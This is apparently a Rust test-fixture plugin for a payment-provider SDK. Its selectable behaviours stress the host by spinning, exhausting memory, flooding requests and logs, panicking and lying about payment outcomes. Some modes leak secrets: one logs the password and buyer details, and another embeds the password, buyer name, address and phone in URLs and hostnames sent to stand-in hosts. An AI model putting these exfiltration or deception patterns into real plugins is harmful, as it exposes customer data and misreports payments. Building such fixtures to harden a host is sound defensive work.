//! A plugin that misbehaves in every way the host must survive. Its setting `behaviour` says how;
//! [`BEHAVIOURS`] lists what there is. It goes around the SDK's good manners on purpose.

use futures::future::join_all;
use provider_sdk::contract::{BatchLimits, Capability, Label, ProviderInfo, SettingField, SettingKind};
use provider_sdk::failure::reason;
use provider_sdk::fee_types::{AdjustedFee, Bill, FeeRule};
use provider_sdk::http::{Request, Response, SendError, Transport};
use provider_sdk::types::*;
use provider_sdk::{Call, Provider};

/// Every behaviour, and what it does.
pub const BEHAVIOURS: [(&str, &str); 28] = [
    ("honest", "sends one request and approves if the answer is 200"),
    ("spin", "computes for ever"),
    ("grow", "takes memory for ever"),
    ("deny", "approves without having sent anything"),
    ("lie-not-sent", "sends, then says that nothing was sent"),
    ("lie-unknown", "sends nothing, then says that the outcome is unknown"),
    ("lie-approved", "sends, loses the answer, then approves"),
    ("panic", "panics before it sends"),
    ("panic-after", "panics after it has sent"),
    ("few-rows", "answers no row at all"),
    ("many-requests", "sends requests until it is stopped"),
    ("big-request", "sends a body of 64 MiB"),
    ("many-headers", "sends ten thousand headers"),
    ("flood-log", "logs ten thousand long lines"),
    ("tell-secrets", "logs its settings and the buyer, whole and in part"),
    ("big-answer", "answers with rows of 64 MiB of text"),
    ("spin-after", "sends, then computes for ever"),
    ("raw", "sends one request with the `method` and the `body` of its settings: none, empty or some"),
    ("two-requests", "sends one request to /first, one to /second, then says what `claim` says"),
    ("spin-denied", "computes between requests that are denied"),
    ("spin-answered", "computes between requests that are answered"),
    ("long-log", "logs lines of megabytes"),
    ("tell-paths", "puts its password and the buyer into paths and names of hosts"),
    ("checks", "refuses orders whose note is `refuse`, sends the references of the others, says what `claim` says"),
    ("lie-when-denied", "says that every order is invalid when its request is denied, and sends all it can"),
    ("lie-invalid", "sends all references, and only then says that orders with the note `refuse` are invalid"),
    ("panic-when-denied", "sends the references of all orders, and panics when that is denied"),
    ("long-words", "answers with ids, codes and words that no platform can keep"),
];

/// The plugin.
pub struct Hostile;

impl Provider for Hostile {
    fn describe() -> ProviderInfo {
        let label = |text: &str| Label { ja: text.to_owned(), en: text.to_owned() };
        let field = |key: &str, kind, required| SettingField {
            key: key.to_owned(),
            label: label(key),
            help: label(""),
            kind,
            required,
            default: None,
            max_length: None,
        };
        ProviderInfo {
            id: "hostile".to_owned(),
            name: label("Hostile"),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            settings: vec![
                field(
                    "behaviour",
                    SettingKind::Choice(BEHAVIOURS.map(|(id, does)| (id.to_owned(), label(does))).into()),
                    true,
                ),
                field("url", SettingKind::Url, true),
                field("password", SettingKind::Secret, false),
                field("method", SettingKind::Text, false),
                field("body", SettingKind::Text, false),
                field("claim", SettingKind::Text, false),
            ],
            carriers: Vec::new(),
            batch_limits: BatchLimits { credit: 10, check_credit: 0, cancel: 1, sync_tracking: 1 },
            // A lie as well: so its credits go over connections that were used before.
            capabilities: Capability::FIND_BY_REFERENCE,
            origins: Vec::new(),
            max_billed_amount: None,
        }
    }

    async fn test_connection<T: Transport>(call: &Call<'_, T>) -> Result<(), Failure> {
        post(call, Vec::new()).await.map(|_| ()).map_err(SendError::into_failure)
    }

    async fn credit<T: Transport>(call: &Call<'_, T>, orders: &[Order]) -> Vec<Result<Decision, Failure>> {
        let approved = || Ok(Decision { transaction_id: None, verdict: Verdict::Approved });
        let all = |row: Result<Decision, Failure>| orders.iter().map(|_| row.clone()).collect::<Vec<_>>();
        match call.settings.get("behaviour") {
            "spin" => spin(),
            "grow" => grow(),
            "deny" => all(approved()),
            "lie-unknown" => all(Err(Failure::OutcomeUnknown(reason(None, "so I say")))),
            "lie-not-sent" => {
                let _ = post(call, b"x".to_vec()).await;
                all(Err(Failure::NotSent(reason(None, "so I say"))))
            }
            "lie-approved" => {
                let _ = post(call, b"x".to_vec()).await;
                all(approved())
            }
            "panic" => panic!("on purpose"),
            "panic-after" => {
                let _ = post(call, b"x".to_vec()).await;
                panic!("on purpose")
            }
            "spin-after" => {
                let _ = post(call, b"x".to_vec()).await;
                spin()
            }
            "few-rows" => Vec::new(),
            "many-requests" => {
                let sent = join_all((0..10_000).map(|_| post(call, b"x".to_vec()))).await;
                all(if sent.iter().all(Result::is_ok) { approved() } else { Err(denied(&sent)) })
            }
            "big-request" => all(outcome(post(call, vec![b'x'; 64 << 20]).await)),
            "many-headers" => {
                let mut request = Request::post(call.settings.get("url").to_owned(), "text/plain", "x");
                request.headers.extend((0..10_000).map(|_| ("x-header", "value".to_owned())));
                all(outcome(call.http.send(request).await))
            }
            "flood-log" => {
                (0..10_000).for_each(|_| log(&"line\n".repeat(1_000)));
                all(outcome(post(call, b"x".to_vec()).await))
            }
            "tell-secrets" => {
                log(&format!("password={}", call.settings.get("password")));
                orders.iter().for_each(|order| log(&format!("{order:?}")));
                all(outcome(post(call, b"x".to_vec()).await))
            }
            "raw" => all(outcome(raw(call).await)),
            "two-requests" => {
                let url = |path: &str| format!("{}{path}", call.settings.get("url"));
                for path in ["first", "second"] {
                    let _ = call.http.send(Request::post(url(path), "text/plain", b"x".to_vec())).await;
                }
                all(claim(call.settings.get("claim")))
            }
            "spin-denied" => {
                for _ in 0..256 {
                    let elsewhere = "http://203.0.113.1/".to_owned();
                    let _ = call.http.send(Request::post(elsewhere, "text/plain", b"x".to_vec())).await;
                    compute();
                }
                all(approved())
            }
            "spin-answered" => {
                for _ in 0..256 {
                    let _ = post(call, b"x".to_vec()).await;
                    compute();
                }
                all(approved())
            }
            "long-log" => {
                let line = format!("{} ", call.settings.get("password")).repeat(100_000);
                (0..100).for_each(|_| log(&line));
                all(approved())
            }
            "tell-paths" => {
                let (password, buyer) = (call.settings.get("password"), &orders[0].buyer);
                let (name, street) = (percent(&buyer.name), percent(&buyer.address.street));
                for url in [
                    format!("{}{password}/{name}/{street}?{password}", call.settings.get("url")),
                    format!("http://{password}.example/{}", buyer.phone),
                    format!("https://{password}.EXAMPLE:8443/{password}"),
                    format!("http://{}.example/{}", "x".repeat(200), "y".repeat(10_000)),
                ] {
                    let _ = call.http.send(Request::post(url, "text/plain", b"x".to_vec())).await;
                }
                all(approved())
            }
            "checks" => {
                let sent: Vec<_> = orders.iter().filter(|order| !is_to_refuse(order)).cloned().collect();
                if !sent.is_empty() {
                    let _ = post(call, references(&sent)).await;
                }
                orders.iter().map(|order| claim(checked(order).unwrap_or(call.settings.get("claim")))).collect()
            }
            "lie-when-denied" => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => all(claim("invalid")),
                _ => all(approved()),
            },
            "lie-invalid" => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => all(claim("not-sent")),
                _ => orders.iter().map(|order| claim(checked(order).unwrap_or("outcome-unknown"))).collect(),
            },
            "panic-when-denied" => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => panic!("on purpose"),
                sent => all(outcome(sent)),
            },
            "long-words" => match post(call, b"x".to_vec()).await {
                Err(SendError::NotSent(_)) => all(claim("not-sent")),
                _ => long_words(orders.len()),
            },
            "big-answer" => all(Err(Failure::Refused(reason(None, "x".repeat(64 << 20))))),
            _ => all(outcome(post(call, b"x".to_vec()).await)),
        }
    }

    async fn check_credit<T: Transport>(
        _: &Call<'_, T>,
        registrations: &[Registration],
    ) -> Vec<Result<Standing, Failure>> {
        registrations.iter().map(|_| Err(Failure::Unsupported)).collect()
    }

    async fn cancel<T: Transport>(call: &Call<'_, T>, cancellations: &[Cancellation]) -> Vec<Result<(), Failure>> {
        let sent = post(call, b"x".to_vec()).await;
        cancellations.iter().map(|_| sent.clone().map(|_| ()).map_err(SendError::into_failure)).collect()
    }

    async fn sync_tracking<T: Transport>(_: &Call<'_, T>, shipments: &[Shipment]) -> Vec<Result<(), Failure>> {
        shipments.iter().map(|_| Ok(())).collect()
    }

    fn fee_adjust(_: &FeeRule, _: &Bill) -> Result<AdjustedFee, Vec<FieldProblem>> {
        spin()
    }
}

async fn post<T: Transport>(call: &Call<'_, T>, body: Vec<u8>) -> Result<Response, SendError> {
    call.http.send(Request::post(call.settings.get("url").to_owned(), "text/plain", body)).await
}

fn outcome(sent: Result<Response, SendError>) -> Result<Decision, Failure> {
    match sent {
        Ok(answer) if answer.status == 200 => Ok(Decision { transaction_id: None, verdict: Verdict::Approved }),
        Ok(answer) => Err(Failure::Refused(reason(None, format!("status {}", answer.status)))),
        Err(error) => Err(error.into_failure()),
    }
}

fn denied(sent: &[Result<Response, SendError>]) -> Failure {
    let refused = sent.iter().filter(|result| result.is_err()).count();
    Failure::Refused(reason(None, format!("{refused} refused")))
}

/// Sends through `wasi:http` itself: the SDK always gives a body and its length.
async fn raw<T: Transport>(call: &Call<'_, T>) -> Result<Response, SendError> {
    use wasip3::http::client;
    use wasip3::http::types::{Fields, Method, Request as WasiRequest, Scheme};
    let url = call.settings.get("url").trim_start_matches("http://").trim_end_matches('/');
    let body = call.settings.get("body");
    let (mut contents, stream) = wasip3::wit_stream::new();
    let stream = (body != "none").then_some(stream);
    let (trailers, no_trailers) = wasip3::wit_future::new(|| Ok(None));
    let (request, _transmitted) = WasiRequest::new(Fields::new(), stream, no_trailers, None);
    let method = match call.settings.get("method") {
        "GET" => Method::Get,
        "HEAD" => Method::Head,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        "PATCH" => Method::Patch,
        "OPTIONS" => Method::Options,
        other => Method::Other(other.to_owned()),
    };
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(url));
    let _ = request.set_path_with_query(Some("/"));
    let write_body = async move {
        if body == "some" {
            contents.write_all(b"body".to_vec()).await;
        }
        drop(contents);
        let _ = trailers.write(Ok(None)).await;
    };
    let (answer, ()) = futures::join!(client::send(request), write_body);
    let answer = answer?;
    let status = answer.get_status_code();
    Ok(Response { status, content_type: None, retry_after: None, body: Vec::new() })
}

/// The row that `claim` names.
fn claim(claim: &str) -> Result<Decision, Failure> {
    let reason = || reason(None, "so I say");
    Err(match claim {
        "invalid" => Failure::Invalid(Vec::new()),
        "unauthorized" => Failure::Unauthorized(reason()),
        "already" => Failure::Already(reason()),
        "refused" => Failure::Refused(reason()),
        "not-sent" => Failure::NotSent(reason()),
        "busy" => Failure::Busy((reason(), None)),
        "unsupported" => Failure::Unsupported,
        "outcome-unknown" => Failure::OutcomeUnknown(reason()),
        _ => return Ok(Decision { transaction_id: Some("T1".to_owned()), verdict: Verdict::Approved }),
    })
}

/// Whether this plugin's own check refuses `order`.
fn is_to_refuse(order: &Order) -> bool {
    order.note.as_deref() == Some("refuse")
}

/// What it says of an `order` that its check refuses.
fn checked(order: &Order) -> Option<&'static str> {
    is_to_refuse(order).then_some("invalid")
}

fn references(orders: &[Order]) -> Vec<u8> {
    orders.iter().map(|order| order.reference.as_str()).collect::<Vec<_>>().join(",").into_bytes()
}

/// Rows that are too long or not to be shown, each in its way.
fn long_words(rows: usize) -> Vec<Result<Decision, Failure>> {
    let long = "long\u{1b}[2J\0".repeat(100_000);
    let said = || reason(Some(long.clone()), long.clone());
    let decided = |id: &str, verdict| Ok(Decision { transaction_id: Some(id.to_owned()), verdict });
    let mut all = vec![
        decided("A\0B", Verdict::Approved),
        decided(&"1".repeat(65), Verdict::Approved),
        decided("A-1", Verdict::Approved),
        decided("A-2", Verdict::Rejected(vec![reason(None, "short"); 20_000])),
        Err(Failure::Refused(said())),
        Err(Failure::Invalid(vec![FieldProblem { field: long.clone(), reason: said() }])),
        Err(Failure::Busy((said(), Some(u32::MAX)))),
    ];
    all.truncate(rows);
    all
}

/// Everything but letters and digits as `%XX`.
fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Computes for some 100 milliseconds: a plugin has no clock, so this is a number of steps.
fn compute() {
    let mut x = 0u64;
    for _ in 0..100_000_000u64 {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn log(words: &str) {
    use provider_sdk::bindings::deferred_payment::provider::log::{Level, write};
    write(Level::Info, words);
}

fn spin() -> ! {
    let mut x = 0u64;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn grow() -> ! {
    let mut kept = Vec::new();
    loop {
        kept.push(std::hint::black_box(vec![1u8; 1 << 20]));
    }
}

provider_sdk::export_provider!(Hostile);
